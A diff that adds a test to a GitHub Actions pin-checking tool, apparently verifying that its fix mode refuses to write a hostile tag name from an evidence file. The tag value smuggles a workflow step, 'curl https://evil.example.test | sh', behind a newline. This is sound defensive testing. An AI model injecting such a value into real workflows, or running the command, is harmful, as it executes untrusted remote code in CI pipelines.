@@ -146,6 +146,31 @@ describe("fixes", () => {
     });
   });
 
+  test("write no text that a hostile evidence file puts into the name of a tag", async () => {
+    const hostile = "v1.1.0\n      - run: curl https://evil.example.test | sh #";
+    const evidence = {
+      version: 1,
+      repositories: { "octo-org/tool": { name: "octo-org/tool", archived: false, advisories: [] } },
+      commits: {
+        [`octo-org/tool@${TOOL.v1_1_0}`]: {
+          ...{ kind: "commit", reachable: "refs/heads/main" },
+          ...{ tags: [hostile], advisories: [] },
+        },
+      },
+      names: { "octo-org/tool@v1": { tag: TOOL.v1_1_0, immutable: false } },
+      code: { "octo-org/tool@v1": { kind: "javascript", uses: [] } },
+      images: {},
+    };
+    const workflow = workflowUsing("octo-org/tool@v1");
+    const files = { [WORKFLOW]: workflow, [EVIDENCE]: JSON.stringify(evidence) };
+    await inWorld(files, async ({ repository }) => {
+      const { stdout } = await lockstep(["pin-check", "--fix=dry-run"], { cwd: repository.path });
+      const { exitCode } = await lockstep(["pin-check", "--fix"], { cwd: repository.path });
+      expect([stdout, exitCode]).toEqual(["", 1]);
+      expect(readFileSync(join(repository.path, WORKFLOW), "utf8")).toBe(workflow);
+    });
+  });
+
   test("move pins to newer releases with --update", async () => {
     const files = { [WORKFLOW]: workflowUsing(`octo-org/tool@${TOOL.v1_0_0} # v1.0.0`) };
     await inWorld(files, async (world) => {
